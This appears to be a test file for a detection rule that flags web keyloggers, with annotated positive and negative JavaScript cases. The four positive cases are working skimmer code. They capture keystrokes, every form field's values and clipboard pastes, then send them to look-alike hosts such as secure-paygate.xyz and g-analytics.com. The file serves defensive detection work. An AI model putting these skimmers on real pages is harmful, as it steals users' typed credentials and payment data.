// Tests for keylogger-listener: key/input/paste/change listeners on the whole document,
// window, body or every field, in a script that also sends to an unknown or look-alike host.
// The finding is reported on the listener. Sections are separate scripts.

var buffer = '';
// ruleid: keylogger-listener
document.addEventListener('keyup', function (e) {
  buffer += e.key;
  if (buffer.length > 40) {
    new Image().src = 'https://cdn-analytics-metrics.top/k.gif?d=' + encodeURIComponent(buffer);
    buffer = '';
  }
});

// ---
// Listener on window; the send is in a separate timer (no data path needed).
var typed = [];
// ruleid: keylogger-listener
window.addEventListener('input', function (e) { typed.push(e.target.name + '=' + e.target.value); });
setInterval(function () {
  navigator.sendBeacon('https://secure-paygate.xyz/b', typed.join('&'));
}, 3000);

// ---
// jQuery on every field (`:input`), send to a look-alike of Google Analytics.
var store = {};
// ruleid: keylogger-listener
jQuery(':input').on('keyup change', function () { store[this.name] = this.value; });
jQuery(window).on('beforeunload', function () {
  jQuery.post('https://g-analytics.com/collect', { d: btoa(JSON.stringify(store)) });
});

// ---
// paste on document.body, fetch to an unknown host.
// ruleid: keylogger-listener
document.body.addEventListener('paste', function (e) {
  fetch('https://secure-paygate.xyz/p', { method: 'POST', body: e.clipboardData.getData('text') });
});

// ---
// Keyboard shortcuts on the document; page-view analytics to Google (well-known).
// ok: keylogger-listener
document.addEventListener('keydown', function (e) {
  if (e.key === '/' && !e.target.matches('input, textarea')) {
    e.preventDefault();
    document.getElementById('site-search').focus();
  }
});
navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&en=page_view');

// ---
// Search-as-you-type on one field, sent to the site's own search endpoint.
// ok: keylogger-listener
document.addEventListener('input', function (e) {
  if (e.target.id !== 'q') { return; }
  fetch('/search/suggest?q=' + encodeURIComponent(e.target.value))
    .then(function (r) { return r.json(); });
});

// ---
// A listener on one specific element (not every field), talking to a third-party search API.
var search = document.getElementById('search-box');
// ok: keylogger-listener
search.addEventListener('input', function () {
  fetch('https://latency-dsn.algolia.net/1/indexes/products/query', {
    method: 'POST', body: JSON.stringify({ params: 'query=' + search.value }) });
});
